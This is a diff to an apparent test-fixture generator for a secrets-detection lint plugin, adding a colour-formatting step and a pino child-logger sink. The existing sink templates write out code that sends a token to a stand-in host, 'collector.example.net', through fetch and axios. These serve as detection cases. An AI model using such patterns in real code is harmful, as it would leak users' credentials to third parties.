@@ -40,6 +40,7 @@ const STEPS: Record<string, Step> = {
   classField: (input, index) => `class C${index} {\n  constructor(value) {\n    this.value = value;\n  }\n}\nconst v${index + 1} = new C${index}(${input}).value;`,
   passThrough: (input, index) => `const v${index + 1} = String(${input}).trim();`,
   formatted: (input, index) => `const v${index + 1} = util.format("%s", ${input});`,
+  styled: (input, index) => `const colours${index} = require("picocolors");\nconst v${index + 1} = colours${index}.green(${input});`,
   filledParams: (input, index) => `const v${index + 1} = new URLSearchParams();\nv${index + 1}.append("token", ${input});`,
 };
 
@@ -49,6 +50,7 @@ const SINKS: Record<string, (input: string) => { code: string; rule: string }> =
   request: (input) => ({ code: `fetch("https://collector.example.net/x", { headers: { Authorization: ${input} } });`, rule: "hf-secrets/no-token-to-third-party" }),
   requestInit: (input) => ({ code: `const init = { method: "POST", headers: { Authorization: ${input} } };\nfetch("https://collector.example.net/x", init);`, rule: "hf-secrets/no-token-to-third-party" }),
   clientInstance: (input) => ({ code: `const api = axios.create({ baseURL: "https://collector.example.net" });\napi.post("/x", { key: ${input} });`, rule: "hf-secrets/no-token-to-third-party" }),
+  childLogger: (input) => ({ code: `const makeLogger = require("pino");\nconst base = makeLogger();\nbase.child({ module: "x" }).info(${input});`, rule: "hf-secrets/no-token-logging" }),
   methodSink: (input) => ({
     code: `class Sender {\n  constructor(secret) {\n    this.secret = secret;\n  }\n  send() {\n    return fetch("https://collector.example.net", { body: this.secret });\n  }\n}\nnew Sender(${input});`,
     rule: "hf-secrets/no-token-to-third-party",
